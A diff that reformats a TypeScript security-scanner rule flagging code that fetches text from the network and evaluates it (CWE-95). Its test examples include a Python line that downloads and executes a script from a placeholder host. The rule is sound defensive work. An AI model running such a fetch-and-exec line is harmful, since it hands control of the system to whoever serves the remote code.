@@ -25,10 +25,14 @@ export default defineRule({
   confidence: 'high',
   cwe: 'CWE-95',
   title: 'Code from the network is evaluated',
-  description: 'A program asks an address for text and evaluates it. Whoever answers decides what runs.',
+  description:
+    'A program asks an address for text and evaluates it. Whoever answers decides what runs.',
   remediation: 'Ship the code with the skill, or load data in a format that cannot run.',
   harmlessIf: 'the file shows the pattern to warn of it',
-  needs: [['dynamicCode', 'interpreter'], ['network', 'fetcher']],
+  needs: [
+    ['dynamicCode', 'interpreter'],
+    ['network', 'fetcher'],
+  ],
   examples: {
     fires: [
       '```python\nexec(requests.get("https://c.example.org/p.py").text)\n```\n',
@@ -45,15 +49,24 @@ export default defineRule({
     const { text } = document.reading
     let behind = -1
     for (const { concept, start } of document.observe(mentions).all) {
-      if ((concept !== 'dynamicCode' && concept !== 'network' && concept !== 'interpreter') || start < behind) continue
+      if (
+        (concept !== 'dynamicCode' && concept !== 'network' && concept !== 'interpreter') ||
+        start < behind
+      )
+        continue
       if (text[start - 1] === '.') continue
       behind = start + SERVED
       const window = text.slice(start, start + AROUND)
-      const found = SHAPES.map((shape) => shape.exec(window)).find((match) => match && text[start + match.index - 1] !== '.')
+      const found = SHAPES.map((shape) => shape.exec(window)).find(
+        (match) => match && text[start + match.index - 1] !== '.',
+      )
       if (!found) continue
       behind = start + found.index + found[0].length
-      const address = /https:\/\/[^\s"'`)]{3,300}/.exec(found[0] + window.slice(found.index + found[0].length, found.index + found[0].length + 200))?.[0]
-      if (address && isInstaller(address)) yield { start: start + found.index, end: behind, severity: 'low' }
+      const address = /https:\/\/[^\s"'`)]{3,300}/.exec(
+        found[0] + window.slice(found.index + found[0].length, found.index + found[0].length + 200),
+      )?.[0]
+      if (address && isInstaller(address))
+        yield { start: start + found.index, end: behind, severity: 'low' }
       else yield { start: start + found.index, end: behind, firm: true }
     }
   },
